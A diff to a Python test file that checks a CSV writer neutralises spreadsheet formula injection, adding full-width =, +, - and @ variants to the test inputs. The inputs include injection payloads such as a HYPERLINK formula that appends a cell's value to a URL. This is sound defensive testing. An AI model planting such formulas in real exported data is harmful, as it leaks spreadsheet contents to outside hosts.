@@ -224,14 +224,21 @@ def test_csv_quotes_every_text_and_leaves_numbers_bare(
     assert [row["fen"] for row in read] == ["4200", "-500", "0"]
 
 
+FULL_WIDTH = ['\uff1dHYPERLINK("http://x/?"&A1)', "\uff0b1+1", "\uff0d2-3", "\uff20SUM(A1)"]
+"""The full-width ＝＋－＠ a Chinese input method types, at a text's start."""
+
+
 @pytest.mark.parametrize(
-    "text", ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2-3", "@SUM(A1)", "\t=1", "\r=1"]
+    "text",
+    ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2-3", "@SUM(A1)", "\t=1", "\r=1", *FULL_WIDTH],
 )
 def test_csv_writes_a_text_a_spreadsheet_would_compute_as_text(
     capsysbinary: pytest.CaptureFixture[bytes], text: str
 ) -> None:
     """OWASP's CSV Injection: a text that begins with = + - @, a tab or a carriage return,
-    after a "'", which a spreadsheet shows and does not compute; a number is not touched."""
+    or with a full-width one of the four (U+FF1D, U+FF0B, U+FF0D, U+FF20: Excel in an East
+    Asian locale reads them as the half-width ones), after a "'", which a spreadsheet shows
+    and does not compute; a number is not touched."""
     printed = csv_printed(capsysbinary, {"id": text, "fen": -5, "at": f"x{text}"})
     (row,) = csv.DictReader(io.StringIO(printed, newline=""))
     assert row == {"id": f"'{text}", "fen": "-5", "at": f"x{text}"}
